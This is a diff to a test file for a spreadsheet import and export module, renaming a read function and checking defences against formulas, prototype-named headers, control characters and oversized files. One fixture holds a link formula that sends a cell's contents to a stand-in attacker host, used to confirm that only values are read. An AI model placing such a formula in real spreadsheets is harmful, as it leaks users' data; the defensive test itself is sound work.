@@ -2,7 +2,7 @@ import { utils, write, read } from '@e965/xlsx';
 import { zipSync, strToU8 } from 'fflate';
 import { describe, expect, test } from 'vitest';
 import { exportCell } from '../../../../src/guards/export-cell.ts';
-import { readRows } from './read-rows.ts';
+import { readTexts } from './read-rows.ts';
 import { writeRows } from './write-rows.ts';
 import { inLongRun } from '../../../../../scripts/testing/inLongRun.mjs';
 
@@ -44,7 +44,7 @@ describe('a sheet is read', () => {
       ['  周婷 ', 0.5],
       [true, '007'],
     ]);
-    expect(readRows(bytes, MAX_ROWS)).toEqual([
+    expect(readTexts(bytes, MAX_ROWS)).toEqual([
       ['账户', '手机号码'],
       ['lwh0001', '13800260413'],
       ['周婷', '0.5'],
@@ -55,12 +55,12 @@ describe('a sheet is read', () => {
   test('with the value of a formula, never the formula', () => {
     const sheet = utils.aoa_to_sheet([['name'], [{ t: 'n', v: 5, f: 'HYPERLINK("http://evil.test/?"&A1,"x")' }]]);
     const bytes = new Uint8Array(write(utils.book_new(sheet, 'a'), { type: 'array' }) as ArrayBuffer);
-    expect(readRows(bytes, MAX_ROWS)).toEqual([['name'], ['5']]);
+    expect(readTexts(bytes, MAX_ROWS)).toEqual([['name'], ['5']]);
   });
 
   test('with headers that name a prototype as plain texts', () => {
     expect(
-      readRows(
+      readTexts(
         workbookOf([
           ['__proto__', 'constructor'],
           ['x', 'y'],
@@ -75,18 +75,18 @@ describe('a sheet is read', () => {
   });
 
   test('without control characters and marks of direction', () => {
-    expect(readRows(workbookOf([['a\u0007\u202Eb\nc']]), MAX_ROWS)).toEqual([['ab c']]);
+    expect(readTexts(workbookOf([['a\u0007\u202Eb\nc']]), MAX_ROWS)).toEqual([['ab c']]);
   });
 
   test('in the older kind of file too', () => {
     const bytes = new Uint8Array(
       write(utils.book_new(utils.aoa_to_sheet([['账户'], ['a']]), 'a'), { type: 'array', bookType: 'biff8' }) as ArrayBuffer,
     );
-    expect(readRows(bytes, MAX_ROWS)).toEqual([['账户'], ['a']]);
+    expect(readTexts(bytes, MAX_ROWS)).toEqual([['账户'], ['a']]);
   });
 
   test('no further than asked', () => {
-    expect(readRows(workbookOf(Array.from({ length: 50 }, (_, index) => [`row ${index}`])), 10).length).toBe(10);
+    expect(readTexts(workbookOf(Array.from({ length: 50 }, (_, index) => [`row ${index}`])), 10).length).toBe(10);
   });
 });
 
@@ -106,13 +106,13 @@ describe('a file is refused, soon and in words for people', () => {
     ['a cell far to the right', workbookWith('<row r="1"><c r="A1"><v>1</v></c><c r="XFD1"><v>1</v></c></row>')],
   ])('%s', (_, bytes) => {
     const startedMs = performance.now();
-    expect(() => readRows(bytes, MAX_ROWS)).toThrow(/请选择excel类型的文件|文件无法读取/);
+    expect(() => readTexts(bytes, MAX_ROWS)).toThrow(/请选择excel类型的文件|文件无法读取/);
     expect(performance.now() - startedMs).toBeLessThan(inLongRun(1000));
   });
 
   test('but a cell a million rows down is just not reached', () => {
     expect(
-      readRows(workbookWith('<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="A1048576"><v>2</v></c></row>'), MAX_ROWS),
+      readTexts(workbookWith('<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="A1048576"><v>2</v></c></row>'), MAX_ROWS),
     ).toEqual([['1']]);
   });
 });
@@ -123,7 +123,7 @@ describe('a sheet is written', () => {
       ['账户', '排序'],
       ['lwh0001', '007'],
     ];
-    expect(readRows(writeRows('用户', rows), MAX_ROWS)).toEqual(rows);
+    expect(readTexts(writeRows('用户', rows), MAX_ROWS)).toEqual(rows);
     const sheet = read(writeRows('用户', rows)).Sheets['用户'];
     expect(sheet?.['B2']).toMatchObject({ t: 's', v: '007' });
   });
